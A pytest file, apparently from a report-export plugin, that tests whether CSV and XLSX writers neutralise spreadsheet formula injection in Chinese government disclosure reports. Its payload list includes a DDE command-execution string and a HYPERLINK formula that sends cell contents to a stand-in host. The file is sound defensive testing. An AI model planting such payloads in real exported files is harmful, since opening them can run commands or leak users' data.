"""Nothing that a report says becomes a formula in a spreadsheet."""

from __future__ import annotations

import csv
import io
import re
import subprocess
import zipfile
from dataclasses import replace
from pathlib import Path

import pytest

from mkdocs_govreport.model import ExtraRow, Figure, Origin, Report
from mkdocs_govreport.writers import WRITERS
from tests.documents import dumped, sound_document
from tests.support.generate import content
from tests.support.loading import CATALOGUE, report_in
from tests.support.programs import SOFFICE

STARTS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
ATTACKS = [
    "=1+1",
    "=HYPERLINK(\"https://a.example/?\"&A1,\"点击\")",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "-2（其中一件）",
    "@SUM(A1:A9)",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "'=1+1",
    "''=1+1",
    "=1+1;=2+2",
    '"=1+1',
    ",=1+1",
    "\t=1+1",
    " =1+1",
    "2024-01-01",
    "1,234",
    "007",
    "1E5",
    "[]",
    "'",
]  # fmt: skip
PATH = "proactive_disclosure.regulations.issued"


def report_in_which(place: str, text: str) -> Report:
    """A real report that says `text` in one place."""
    report = report_in(dumped(sound_document()), "宿迁市/2024.json")
    if place == "remark":
        return replace(report, figures={**report.figures, PATH: Figure(-3, Origin("x"), text)})
    if place == "prose":
        document = sound_document()
        document["narrative"]["overview"] = f"{text}\n\n又一段。\n{text}"
        return report_in(dumped(document), "宿迁市/2024.json")
    if place in {"label", "value"}:
        label, values = (text, (-1, 2, 3)) if place == "label" else ("便民告示牌更新情况", (text, 2, 3))
        return replace(report, extra_rows=(ExtraRow("proactive_disclosure", label, values, Origin("x")),))
    return replace(report, **{place: text})


def cells_of(format_: str, data: bytes) -> list[str]:
    """Return the texts of all cells, numbers left out."""
    if format_ == "csv":
        rows = csv.reader(io.StringIO(data.decode("utf-8-sig")))
        return [cell for row in rows for cell in row if not re.fullmatch(r"-?\d+(\.\d+)?", cell)]
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        text = "".join(
            package.read(name).decode() for name in package.namelist() if name.startswith("xl/") and "sheet" in name
        )
    assert "<f>" not in text
    assert "hyperlink" not in text
    return re.findall(r"<t[^>]*>([^<]*)</t>", text)


@pytest.mark.parametrize("place", ["agency", "title", "publisher", "remark", "label", "value", "prose"])
@pytest.mark.parametrize("format_", ["csv", "xlsx"])
def test_no_cell_begins_as_a_formula_and_every_text_is_read_back(format_: str, place: str) -> None:
    for attack in ATTACKS:
        if place in {"label", "value"} and (not attack.startswith(STARTS) or attack in {"－1", "-2（其中一件）"}):
            continue  # is a number there, or may begin a cell of any sheet
        report = report_in_which(place, " ".join(attack.split()) if place != "prose" else attack)
        data = WRITERS[format_](report, CATALOGUE)

        assert [cell for cell in cells_of(format_, data) if cell.startswith((*STARTS, "\t", "\r", "\n"))] == [], attack
        assert content(report_in(data, f"inbox/report.{format_}")) == content(report), attack


def test_a_negative_number_is_a_number() -> None:
    report = report_in_which("remark", "x")
    report = replace(report, figures={**report.figures, PATH: Figure(-3, Origin("x"))})

    assert f"{PATH},规章 · 本年制发件数,-3," in WRITERS["csv"](report, CATALOGUE).decode()


@pytest.mark.skipif(not SOFFICE, reason="LibreOffice is not installed")
@pytest.mark.parametrize("format_", ["csv", "xlsx"])
def test_a_spreadsheet_computes_nothing(format_: str, tmp_path: Path) -> None:
    report = report_in_which("title", "=1+1")
    report = replace(
        report,
        agency="=2+2",
        publisher="＝3+3",
        narrative={**report.narrative, "overview": "+4+4"},
        figures={**report.figures, PATH: Figure(-3, Origin("x"), "=7+7")},
        extra_rows=(ExtraRow("proactive_disclosure", "=8+8", (-1, 2, 3), Origin("x")),),
    )
    (tmp_path / f"report.{format_}").write_bytes(WRITERS[format_](report, CATALOGUE))
    command = [SOFFICE, f"-env:UserInstallation=file://{tmp_path}/profile", "--headless"]
    command += ["--infilter=CSV:44,34,76,1"] if format_ == "csv" else []
    command += ["--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1"]
    command += ["--outdir", str(tmp_path / "out"), str(tmp_path / f"report.{format_}")]
    subprocess.run(command, check=True, capture_output=True, timeout=120)
    saved = "\n".join(path.read_text(encoding="utf-8") for path in sorted((tmp_path / "out").glob("*.csv")))

    for text in ("=1+1", "=2+2", "＝3+3", "+4+4", "=8+8"):
        assert f"'{text}" in saved
    assert not re.search(r"Err:\d|#[A-Z]+[!?]", saved)
